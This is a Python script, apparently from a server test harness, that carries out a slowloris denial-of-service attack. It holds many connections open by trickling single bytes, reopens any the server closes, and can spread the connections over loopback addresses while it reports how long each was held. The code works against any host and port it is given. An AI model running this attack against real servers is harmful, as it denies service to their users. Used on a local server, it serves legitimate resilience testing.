"""The slowloris attacker, in its own process so its work is not charged to the measuring clients.

    python slowloris_attack.py HOST PORT N_CONNECTIONS SECONDS [SOURCES [PAUSE [SILENT]]]

N connections each send one byte a second and never a newline, and SILENT more (default 0)
connect and never send anything; a connection the server closes is re-opened PAUSE seconds
later (default 1; 0: the moment it is closed). With SOURCES > 0 the
connections come from SOURCES loopback addresses 127.0.1.1, 127.0.1.2, ... in turn (attackers
spread over many addresses, or behind a load balancer); else from 127.0.0.1. Starts are spread
over one second. Prints ``started`` once every attacker has begun, then, after SECONDS, one JSON
line: ``{"held": [seconds each accepted connection lasted], "refused": n, "connects": n,
"cpu": seconds}``, where connections closed in under half a second count as refused and ``cpu``
is this process's own CPU time (its parent may have reaped it before it could read /proc).
"""

from __future__ import annotations

import json
import os
import socket
import sys
import time

import gevent
import gevent.event
import gevent.socket


def main() -> None:
    host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    sources = int(sys.argv[5]) if len(sys.argv) > 5 else 0
    pause = float(sys.argv[6]) if len(sys.argv) > 6 else 1.0
    silent = int(sys.argv[7]) if len(sys.argv) > 7 else 0
    over = gevent.event.Event()
    held: list[float] = []
    refused = [0]
    connects = [0]

    def attacker(i: int) -> None:
        over.wait(i / (n + silent))  # attackers start spread over one second, not in lockstep
        drips = i < n
        source = f"127.0.1.{1 + i % sources}" if sources else None
        while not over.is_set():
            sock = gevent.socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.settimeout(1.0)
            start = time.monotonic()
            try:
                if source is not None:
                    sock.bind((source, 0))
                sock.connect((host, port))
                connects[0] += 1
                start = time.monotonic()
                while not over.is_set():
                    if drips:
                        sock.sendall(b"x")  # one byte a second, never a newline
                    try:
                        if sock.recv(1) == b"":
                            break  # the server closed this connection
                    except TimeoutError:
                        continue  # nothing said in a second: drip again
            except OSError:
                pass
            finally:
                sock.close()
            lasted = time.monotonic() - start
            if lasted < 0.5:
                refused[0] += 1
            elif not over.is_set():
                held.append(lasted)
            if pause:
                over.wait(pause)  # the attacker's pause before reconnecting

    glets = [gevent.spawn(attacker, i) for i in range(n + silent)]
    print("started", flush=True)
    over.wait(seconds)  # the attack runs
    over.set()
    gevent.killall(glets, timeout=5)
    times = os.times()
    print(json.dumps({"held": held, "refused": refused[0], "connects": connects[0],
                      "cpu": times.user + times.system}), flush=True)


if __name__ == "__main__":
    main()
